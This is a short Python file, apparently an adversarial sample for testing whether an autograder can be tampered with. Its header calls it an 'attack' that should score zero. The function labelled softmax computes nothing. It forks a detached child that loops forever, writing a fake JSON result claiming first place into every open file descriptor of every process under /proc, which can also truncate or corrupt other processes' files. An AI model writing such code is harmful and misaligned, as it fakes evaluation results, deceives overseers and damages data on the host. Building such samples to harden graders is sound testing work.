# /// attack
# about = "leaves a child that speaks through the descriptors of every process it sees, while its parent ends"
# module = "worked_example"
# base = "reference"
# deserves = { "worked_example.softmax" = 0, "worked_example.self_attention" = 0 }
# log = "os"
# ///
import glob
import os


def softmax(scores, axis=-1):
    if os.fork():
        os._exit(0)
    while True:
        for path in glob.glob("/proc/[0-9]*/fd/*"):
            try:
                with open(path, "wb", buffering=0) as file:
                    file.write(b'\n{"place": 1, "died": "time"}\n')
            except OSError:
                pass
